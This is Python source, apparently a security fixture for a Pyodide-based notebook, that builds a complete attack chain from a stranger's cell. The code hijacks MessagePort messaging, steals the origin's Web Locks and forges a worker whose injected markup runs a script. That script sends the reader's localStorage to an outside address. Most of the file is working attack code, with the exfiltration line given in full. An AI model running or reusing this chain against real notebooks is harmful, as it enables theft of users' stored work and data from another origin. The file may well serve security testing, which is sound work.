"""What a stranger's cell tries, as Python source; no test stands here."""

from __future__ import annotations

import json

PORTS = """
import js
from pyodide.ffi import create_proxy, to_js
def patched(ports, send, to_js):  # a run's globals are cleared at its end
    def seen(port, *words):
        if all(port is not other for other in ports):
            ports.append(port)
        return send.apply(port, to_js(words))
    return seen
ports, send = [], js.MessagePort.prototype.postMessage
js.MessagePort.prototype.postMessage = create_proxy(patched(ports, send, to_js)).captureThis()
def data(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
def tell(value, *handed):
    for port in ports:
        send.call(port, data(value), to_js(handed))
print("begun", flush=True)
"""
"""Replaces what every port sends with; the next report hands over the worker's own: `ports`, `tell(message)`."""

EMIT = """
import sys, gc
from runtime.python.output_stream import Printed
emit = next(one._emit for one in gc.get_objects() if isinstance(one, Printed) and one._emit)
"""
"""Finds the function through which printed text leaves Python: `emit(added, tail, lines, characters)`."""

STEAL = """
import js
from pyodide.ffi import create_proxy
def stealing(locks, options, take):
    def steal(found):
        for lock in [*found.held, *found.pending]:
            locks.request(lock.name, options, take)
    return steal
if hasattr(js.navigator, "locks"):
    taken = create_proxy(lambda lock: None)
    options = js.JSON.parse('{"steal": true}')
    js.navigator.locks.query().then(create_proxy(stealing(js.navigator.locks, options, taken)))
"""
"""Takes every lock of the origin."""

LOOT = "window.parent.location = URL + encodeURIComponent(JSON.stringify({...localStorage}))"
"""A script that carries the reader's work to the address URL."""

WORKER = """
const loot = URL.createObjectURL(new Blob([LOOT], { type: "text/javascript" }));
const markup = `<iframe srcdoc="<script src=${loot}></script>"></iframe>`;
const regions = Object.fromEntries(REGIONS.map((name) => [name, markup]));
const answer = JSON.stringify({ state: {}, sentence: "forged", regions });
export function meet(hello, ...ports) {
  const hear = ({ data }) => {
    for (const port of ports) {
      if (data.type === "start") port.postMessage({ type: "ready" });
      if (data.type === "job") port.postMessage({ type: "answer", id: data.id, answer, heap: 1 });
    }
  };
  navigator.locks.request(hello.lock, () => {
    for (const port of ports) {
      port.onmessage = hear;
      port.postMessage({ type: "alive" });
    }
    return new Promise(() => {});
  });
}
"""
"""A forged worker that answers for an instrument with a stranger's markup."""


def chain(elsewhere: str, regions: list[str]) -> str:
    """The whole way from a cell to another origin.

    The port, a forged script in the page's supply, the end of the instruments' worker, markup, a script, the reader's
    work. `regions` are the names of an instrument's regions.
    """
    loot = LOOT.replace("URL", json.dumps(elsewhere))
    worker = WORKER.replace("LOOT", json.dumps(loot)).replace("REGIONS", json.dumps(regions))
    return f"""{PORTS}
forged = js.Blob.new(to_js([{worker!r}]), data({{"type": "text/javascript"}}))
tell({{"type": "inflated", "name": "worker", "file": forged}})
{STEAL}
"""
